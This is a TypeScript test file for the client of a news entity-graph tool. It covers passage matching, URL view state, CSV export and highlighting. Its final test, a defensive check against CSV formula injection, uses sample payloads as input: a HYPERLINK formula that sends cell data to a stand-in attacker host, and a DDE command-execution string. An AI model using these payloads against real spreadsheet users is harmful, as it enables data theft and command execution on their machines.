// The client's pure modules (no browser needed): shared-passage detection, URL state, CSV export, highlighting.
import { describe, expect, it } from 'vitest';
import { highlightRuns } from '../../client/src/dom.ts';
import { toCsv } from '../../client/src/export.ts';
import { sharedPassages } from '../../client/src/ngrams.ts';
import { decodeState, emptyState, encodeState } from '../../client/src/state.ts';

describe('sharedPassages', () => {
  it('marks the passages two texts share and nothing else', () => {
    const a = 'Police said the suspect was arrested in the city centre on Tuesday night. The mayor praised officers.';
    const b = 'In a statement, police said the suspect was arrested in the city centre on Tuesday night after a chase.';
    const r = sharedPassages(a, b, 6);
    expect(r.a.map((s) => a.slice(s.start, s.end))).toEqual([
      'Police said the suspect was arrested in the city centre on Tuesday night',
    ]);
    expect(r.b.map((s) => b.slice(s.start, s.end))).toEqual([
      'police said the suspect was arrested in the city centre on Tuesday night',
    ]);
    expect(r.coverageA).toBeGreaterThan(0.6);
    expect(r.coverageA).toBeLessThan(1);
  });

  it('finds nothing in unrelated texts or when passages are shorter than n words', () => {
    expect(sharedPassages('one two three four five six seven', 'eight nine ten eleven twelve', 3).a).toEqual([]);
    expect(sharedPassages('the attack happened at dawn today', 'the attack happened at noon', 5).a).toEqual([]);
  });
});

describe('view state in the URL', () => {
  it('round-trips focus, filters, selection and comparison', () => {
    const s = {
      ...emptyState(),
      focus: ['person:daniel ormsby', 'incident:foiled plot:place:geo:1:2021-03-02'],
      selected: 'org:known:mi5',
      types: ['person', 'incident'] as const,
      orgKinds: ['agency'],
      incidentKinds: ['shooting', 'foiled plot'],
      from: '2021-01-01',
      to: '2021-12-31',
      source: 'Pennine Herald',
      compare: ['a_1', 'a_2'] as [string, string],
    };
    const decoded = decodeState(`#${encodeState({ ...s, types: [...s.types] })}`);
    expect(decoded).toEqual({ ...s, types: [...s.types] });
  });

  it('carries how many neighbours each focused entity shows, only where it is not the default page', () => {
    const s = { ...emptyState(), focus: ['org:a', 'org:b', 'org:c'], limits: { 'org:b': 75 } };
    const hash = encodeState(s);
    expect(new URLSearchParams(hash).get('lim')).toBe(',75,');
    expect(decodeState(`#${hash}`)).toEqual(s);
    expect(new URLSearchParams(encodeState({ ...s, limits: {} })).has('lim')).toBe(false);
    // a list that does not line up with the focus, or counts that are not positive integers, are ignored
    expect(decodeState('#f=a&f=b&lim=50').limits).toEqual({});
    expect(decodeState('#f=a&f=b&lim=0,x').limits).toEqual({});
    expect(decodeState('#f=a&f=b&lim=,50').limits).toEqual({ b: 50 });
  });

  it('carries entities shown without their neighbourhoods, apart from the expanded ones', () => {
    const s = { ...emptyState(), focus: ['org:a'], shown: ['org:b', 'person:c d'] };
    expect(decodeState(`#${encodeState(s)}`)).toEqual(s);
    expect(decodeState('#f=a&k=a&k=b').shown).toEqual(['b']);
  });

  it('carries hidden, removed and pinned entities, positions, view, selection, open link and chosen path', () => {
    const s = {
      ...emptyState(),
      focus: ['org:a'],
      selected: 'org:a',
      alsoSelected: ['person:b, c'],
      edge: 'ROLE:person:b, c:org:a',
      hidden: ['place:x'],
      removed: ['place:y', 'org:z'],
      pinned: ['person:b, c'],
      positions: { 'org:a': { x: -12, y: 40 }, 'person:b, c': { x: 300, y: -7 } },
      viewport: { zoom: 0.75, x: 10, y: -20 },
      path: { from: 'org:a', to: 'place:y', max: 4, noCoMentions: true, index: 2 },
    };
    expect(decodeState(`#${encodeState(s)}`)).toEqual(s);
    // a path needs both ends, different, and a hop bound the server takes; positions need numbers
    expect(decodeState('#pf=a&pt=a&pmax=4').path).toBeNull();
    expect(decodeState('#pf=a&pt=b&pmax=9').path).toBeNull();
    expect(decodeState('#pf=a&pt=b&pmax=3&pi=-1').path).toEqual({
      from: 'a',
      to: 'b',
      max: 3,
      noCoMentions: false,
      index: 0,
    });
    expect(decodeState('#p=1,x,a&p=2,3&p=4,5,b').positions).toEqual({ b: { x: 4, y: 5 } });
    expect(decodeState('#vp=0,1,2').viewport).toBeNull();
  });

  it('drops malformed values instead of trusting them', () => {
    const d = decodeState('#types=person,robot&from=yesterday&to=2021-02-30x&view=admin');
    expect(d.types).toEqual(['person']);
    expect(d.from).toBeNull();
    expect(d.to).toBeNull();
    expect(d.view).toBe('explore');
  });
});

describe('toCsv', () => {
  it('writes one row per entity and per edge, quoting commas and quotes', () => {
    const csv = toCsv(
      [
        {
          key: 'p:1',
          type: 'person',
          name: 'Smith, "Jo"',
          aliases: ['J. Smith'],
          kind: null,
          articles: 2,
          country: null,
          lat: null,
          lon: null,
          date: null,
        },
        {
          key: 'o:1',
          type: 'organization',
          name: 'MI5',
          aliases: [],
          kind: 'agency',
          articles: 3,
          country: 'GB',
          lat: null,
          lon: null,
          date: null,
        },
      ],
      [
        {
          id: 'ROLE:p:1:o:1',
          type: 'ROLE',
          from: 'p:1',
          to: 'o:1',
          label: 'officer',
          weight: 2,
          independent: 1,
          outlets: 1,
        },
      ],
    );
    const lines = csv.trimEnd().split('\r\n');
    expect(lines).toHaveLength(4);
    // the last three columns (sentences, their total, source articles) are filled when the view's evidence is given
    expect(lines[1]).toBe('node,p:1,person,"Smith, ""Jo""",,,,J. Smith,,,,,2,,,,,');
    expect(lines[3]).toBe('edge,ROLE:p:1:o:1,ROLE,officer,,,,,p:1,o:1,"Smith, ""Jo""",MI5,2,1,1,,,');
  });
});

describe('highlightRuns', () => {
  it('splits text into plain and highlighted runs, merging overlaps and clipping out-of-range spans', () => {
    const runs = highlightRuns('Alan Prewitt of West Yorkshire Police', [
      { start: 16, end: 37 },
      { start: 0, end: 12 },
      { start: 5, end: 10 },
      { start: 30, end: 99 },
    ]);
    expect(runs.map((r) => [r.text, r.span !== null])).toEqual([
      ['Alan Prewitt', true],
      [' of ', false],
      ['West Yorkshire Police', true],
    ]);
  });
});

describe('toCsv and spreadsheet formulas (defect 10)', () => {
  it('neutralises cells a spreadsheet would run as a formula (= + - @ tab CR), text from articles included', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1',
      '\r=1',
    ];
    const csv = toCsv(
      names.map((name, i) => ({
        key: `p:${i}`,
        type: 'person' as const,
        name,
        aliases: ['=1+1'],
        kind: null,
        articles: 1,
        country: null,
        lat: null,
        lon: null,
        date: null,
      })),
      [
        {
          id: 'ROLE:p:0:p:1',
          type: 'ROLE',
          from: 'p:0',
          to: 'p:1',
          label: '=cmd()',
          weight: 1,
          independent: 1,
          outlets: 1,
        },
      ],
    );
    // every field that is not a number starts with a character no spreadsheet evaluates
    const fields = csv.match(/(?<=^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm) ?? [];
    expect(fields.length).toBeGreaterThan(50);
    for (const f of fields) {
      const value = f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f;
      if (/^-?\d+$/.test(value)) continue;
      expect(value, `cell ${JSON.stringify(value)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).toContain(`'=cmd()`);
  });
});
